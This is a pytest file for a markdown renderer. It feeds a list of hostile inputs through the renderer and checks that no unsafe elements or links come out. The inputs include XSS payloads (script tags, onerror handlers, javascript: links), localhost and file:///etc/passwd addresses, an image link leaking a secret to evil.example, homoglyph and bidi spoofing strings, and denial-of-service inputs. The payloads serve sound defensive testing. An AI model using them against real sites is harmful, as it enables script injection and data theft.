"""No text, whole or half, makes an element, attribute, address or request that it may not make."""

from __future__ import annotations

import re

import pytest

from runview.draw import links
from runview.draw.markdown import Growing, render
from runview.draw.tree import ATTRIBUTES, MATH_ATTRIBUTES, MATH_TAGS, TAGS, Node, wire
from tests.timing import fair

GIF = "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"
HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1)) [y](JaVaScRiPt&colon;alert(1)) [z](java\tscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=) <javascript:alert(1)> <data:text/html,x>",
    "[x](vbscript:x) [y](file:///etc/passwd) [z](//evil.example) [w](/lab/tree) [v](#a) [u](https:evil.example)",
    "[x](https://user:pw@evil.example/) [y](https://good.example@evil.example/) [z](https:\\\\evil.example)",
    "[x](http://localhost:8888/lab) [y](http://127.0.0.1/) [z](http://2130706433/) [w](http://0x7f.1/) [v](http://[::1]/)",
    "![x](https://evil.example/p.png?leak=SECRET) ![](//evil.example/a) ![d](..//evil.example/x.png)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=) ![x](data:image/png;base64,PHNjcmlwdD4=) ![x](data:text/html;base64,AAAA)",
    f"![x]({GIF}) ![y]({GIF[:40]}) [![z](https://a.example/b.png)](https://c.example)",
    "[x]: javascript:alert(1)\n\n[x] [x][x] ![x]",
    '```html onclick=alert(1)\n<script>\n```\n\n```"><script>\nx\n```',
    "<div style='position:fixed'>\n<style>@import 'x'</style>\n<iframe src=//evil.example>",
    "$\\href{javascript:alert(1)}{x}$ $$\\url{javascript:alert(1)}$$ \\(\\class{jp-x}{y}\\)",
    "\\[\\style{a:b}{c}\\] $\\require{html}$",
    "$\\text{<img src=x onerror=alert(1)>}$ \\(\\mathrm{<script>}\\)",
    "| <script> | [x](javascript:1) |\n|---|:-:|\n| ![x](https://evil.example) | `<b>` |",
    "- [x] <input onfocus=alert(1) autofocus>\n1. [a](data:x)\n99999999999. b",
    "a\u202egpj.exe \u2066x\u2069 \U000e0041\U000e0042 \u200b \x1b]8;;https://evil.example\x07click\x1b]8;;\x07 \x9b31m \ud800",
    '[https://good.example](https://evil.example) [good.example/evil.example](https://evil.example "good.example")',
    "[ɢood.example](https://ɢood.example) [раураl.example](https://раураl.example)",
    "<https://evil.example/\u202e> https://evil.example/a\u200bb http://evil.example:99999/ http://evil.example:8x/",
    "&#x3C;script&#x3E; &lt;script&gt; &NewLine; &#0; &#x202e;",
    '[a](<javascript:alert(1)>) [b](\x01javascript:alert(1)) [c](&#1;javascript:alert(1)) [d](https://evil.example/"onclick="x)',
    "[^1]: note\n\n[^1] [[1]](https://a.example) [1](https://b.example)",
    "https://evil.example/'onmouseover='x https://evil.example/<b> mailto:a@b.example [m](mailto:a@b.example?subject=x&body=y)",
]
CLASS = re.compile(r"rv-[a-z0-9]+(?: rv-[a-z0-9]+)*")
ADDRESS = re.compile(r"https?://[a-z0-9._-]+(?::\d+)?(?:[/?#][\x21-\x7e]*)?|mailto:[\x21-\x7e]+@[a-z0-9.-]+(?:\?[\x21-\x7e]*)?")


def check(nodes: list[Node]) -> None:
    for top in nodes:
        for node in top.walk():
            assert node.tag in TAGS | MATH_TAGS
            for name, value in node.attrs.items():
                assert name in ATTRIBUTES | {"key", "copy", "tex"} or (node.tag in MATH_TAGS and name in MATH_ATTRIBUTES)
                if name == "class":
                    assert CLASS.fullmatch(value)
                elif name == "href":
                    assert ADDRESS.fullmatch(value), value
                    assert '"' not in value
                    assert not re.search(r"localhost|127\.|@.*@", value)
                elif name == "src":
                    assert value.startswith("data:image/gif;base64,")
                elif name in ("dir", "type", "display"):
                    assert value in ("auto", "ltr", "checkbox", "block")
                elif name in ("disabled", "checked"):
                    assert value is True
                elif name == "start":
                    assert type(value) is int
        assert not re.search(
            "[\0-\x08\x0b-\x1f\x7f-\x9f\u200b\u202a-\u202e\u2066-\u2069\ud800-\udfff\U000e0000-\U000e007f]", top.text()
        )


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_whole_and_by_the_character(text: str) -> None:
    check(render(text))
    growing = Growing()
    for character in text:
        growing.feed(character)
        check(growing.nodes())
    growing.close()
    assert [wire(node) for node in growing.nodes()] == [wire(node) for node in render(text)]


@pytest.mark.parametrize(
    ("href", "checked"),
    [
        ("https://docs.example/a?b=c#d", "https://docs.example/a?b=c#d"),
        ("HTTPS://Docs.Example", "https://docs.example"),
        ("http://docs.example:8080/a b", "http://docs.example:8080/a%20b"),
        ("https://bücher.example/ü", "https://xn--bcher-kva.example/%C3%BC"),
        ("https://example.org/a_(b)", "https://example.org/a_(b)"),
        ("https://10.0.0.1/x", "https://10.0.0.1/x"),
        ("mailto:a.b@c.example", "mailto:a.b@c.example"),
    ],
)
def test_addresses(href: str, checked: str) -> None:
    link = links.check(href)
    assert link is not None
    assert link.href == checked


@pytest.mark.parametrize(
    "href",
    [
        *(
            "",
            "docs",
            "/a",
            "//a.example",
            "#a",
            "ftp://a.example",
            "javascript:1",
            "https:a.example",
            "https:/a.example",
            "https://",
        ),
        *(
            "https://a@b.example",
            "https://a.example\\@b.example",
            "https://a.example:x",
            "https://a.example:70000",
            "https://a..example",
        ),
        *(
            "http://localhost",
            "http://x.localhost.",
            "http://127.1",
            "http://0x7f000001",
            "http://017700000001",
            "http://0.0.0.0",
        ),
        *("https://[::1]", "https://a%2eb.example", "https://a.example/\n/b", "https://a.example/\0", "https://-a.example"),
        *(f"{scheme}://a.example/%0aalert(1)" for scheme in ("javascript", "vbscript", "data", "file", "blob", "ws", "about")),
        *("mailto:a", "mailto:a@b@c", "mailto:a@[1.2.3.4]", "https://a.example/" + "a" * 2048, "https://a.example/" + "ü" * 400),
    ],
)
def test_refused_addresses(href: str) -> None:
    assert links.check(href) is None


@pytest.mark.parametrize(
    ("text", "host", "truth"),
    [
        ("docs.example", "docs.example", True),
        ("see https://docs.example/a", "docs.example", True),
        ("www.docs.example", "docs.example", True),
        ("docs", "docs.example", False),
        ("good.example/evil.example", "evil.example", False),
        ("notevil.example", "evil.example", False),
        ("evil.example.good.example", "evil.example", False),
        ("a@b.example", "a@b.example", True),
    ],
)
def test_what_a_link_says(text: str, host: str, truth: bool) -> None:
    assert links.says(text, host) is truth


def test_refused_links_keep_their_words() -> None:
    node = render("[call](tel:123) [f](sandbox:/a) ![c](sandbox:/b.png) <std::vector> <b>")[0]
    assert wire(node)[2] == ["call f c <std::vector> <b>"]


def test_pictures() -> None:
    kids = wire(render(f"![one *two*]({GIF}) and ![far](https://pics.example/a.png)")[0])[2]
    assert kids[0] == ["img", {"class": "rv-img", "src": GIF, "alt": "one two"}, []]
    assert kids[2:] == [
        ["a", {"href": "https://pics.example/a.png"}, ["far"]],
        ["span", {"class": "rv-host"}, [" (pics.example)"]],
    ]


PATHOLOGICAL = {
    "quotes": ">" * 10_000 + "a",
    "brackets": "[" * 50_000,
    "closed brackets": "[" * 10_000 + "a" + "]" * 10_000,
    "images in images": "![" * 5000 + "a" + "](x)" * 5000,
    "links in links": "[" * 5000 + "a" + "](x)" * 5000,
    "stars": "*a **a " * 15_000,
    "stars inside": "**x* " * 10_000,
    "underscores": "a_ " * 40_000,
    "half links": "[a](" * 20_000,
    "half titles": '[a](b "' * 10_000,
    "definitions": "".join(f"[a{number}]: u\n" for number in range(10_000)),
    "half definitions": '[a]: b "\n' * 10_000,
    "backticks": "".join("e" + "`" * number for number in range(400)),
    "code": "`a" * 40_000,
    "less-than": "<" * 60_000,
    "ampersands": "&a" * 30_000,
    "spaces": " " * 100_000 + "x",
    "items": "- " * 30_000 + "x",
    "deeper items": "".join(" " * depth + "- a\n" for depth in range(400)),
    "rows": "|a|b|\n|-|-|\n" + "|a|b|\n" * 5000,
    "bars": "|" * 60_000,
    "delimiters": "a|b\n" + "-|" * 30_000,
    "missing cells": "|a" * 90 + "|\n" + "|-" * 90 + "|\n" + "|x\n" * 5000,
    "rules": "---\n" * 10_000,
    "hashes": "# " * 30_000,
    "dollars": "$a$ " * 5000,
    "braces": "$" + "{" * 400 + "}" * 400 + "$",
    "roots": "$$" + "\\sqrt " * 300 + "x$$",
    "fractions": "$$" + "\\frac{" * 300 + "$$",
    "addresses": "https://a.example/" + ")" * 50_000,
    "data": "![a](data:image/png;base64," * 3000,
    "one word": "A" * 500_000,
    "escapes": "\x1b[" * 20_000,
    "joiners": "\U0001f468\u200d" * 30_000,
}


@pytest.mark.parametrize("name", PATHOLOGICAL)
def test_pathological_text_takes_linear_time(name: str) -> None:
    text = PATHOLOGICAL[name]
    with fair() as whole:
        nodes = render(text)
    assert nodes or name in ("definitions", "half definitions", "escapes")
    growing = Growing()
    size = len(text) // 40 + 1
    with fair() as pieces:
        for at in range(0, len(text), size):
            growing.feed(text[at : at + size])
            growing.nodes()
        growing.close()
    assert [wire(node) for node in growing.nodes()] == [wire(node) for node in nodes]
    assert whole.seconds < 1
    assert pieces.seconds < 5
